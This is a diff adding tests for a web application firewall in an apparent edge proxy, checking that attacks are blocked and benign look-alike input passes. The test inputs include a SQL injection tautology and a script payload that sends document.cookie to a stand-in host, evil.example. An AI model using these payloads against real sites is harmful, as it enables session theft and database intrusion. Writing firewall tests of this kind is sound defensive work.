@@ -101,3 +101,41 @@ async def test_blocks_raise_one_signed_event_at_a_real_webhook(origin, make_edge
         assert origin.hits["/"] == 0
     finally:
         await runner.cleanup()
+
+
+async def test_waf_blocks_attacks_in_query_and_body_before_the_origin(origin, make_edge, client):
+    origin.respond("/search", b"results", headers={"Cache-Control": "max-age=60"})
+    origin.respond("/api/posts", b"saved")
+    edge = await make_edge(policies={"shop": _site(origin.url, {})})
+    host = {"Host": "shop.example"}
+    async with client.get(edge.url + "/search", params={"q": "1' OR '1'='1"}, headers=host) as r:
+        assert r.status == 403 and r.headers["Cache-Status"] == "edge; detail=filter.waf"
+        assert r.headers["X-Request-Id"] in await r.text()
+    async with client.get(edge.url + "/search", params={"q": 'O\'Reilly "red shoes" -cheap'}, headers=host) as r:
+        assert r.status == 200
+    attack = {"title": "x", "body": "<script>document.location='https://evil.example/?c='+document.cookie</script>"}
+    async with client.post(edge.url + "/api/posts", json=attack, headers=host) as r:
+        assert r.status == 403
+    benign = {"title": "How do I join tables?", "body": "<p>I tried <code>SELECT a FROM t JOIN u ON t.id = u.id</code>, it works.</p>"}
+    async with client.post(edge.url + "/api/posts", json=benign, headers=host) as r:
+        assert r.status == 200 and await r.read() == b"saved"
+    posted = [orjson.loads(req["body"]) for req in origin.requests if req["path_qs"] == "/api/posts"]
+    assert posted == [benign]  # the attack never arrived; the benign body arrived whole
+
+
+async def test_waf_log_mode_and_exclusions(origin, make_edge, client):
+    origin.respond("/search", b"results")
+    origin.respond("/admin/sql", b"ran")
+    waf = {"mode": "block", "exclusions": [{"rule": "sqli-libinjection", "path_prefix": "/admin/"},
+                                           {"rule": "sqli-tautology", "path_prefix": "/admin/"}]}
+    edge = await make_edge(policies={
+        "shop": _site(origin.url, {"waf": waf}),
+        "logged": {"hosts": ["log.example"], "origins": [{"url": origin.url}], "filters": {"waf": {"mode": "log"}}},
+    })
+    q = {"q": "1' OR '1'='1"}
+    async with client.get(edge.url + "/admin/sql", params=q, headers={"Host": "shop.example"}) as r:
+        assert r.status == 200  # excluded under /admin/
+    async with client.get(edge.url + "/search", params=q, headers={"Host": "shop.example"}) as r:
+        assert r.status == 403  # not elsewhere
+    async with client.get(edge.url + "/search", params=q, headers={"Host": "log.example"}) as r:
+        assert r.status == 200  # log mode: decided, logged, passed
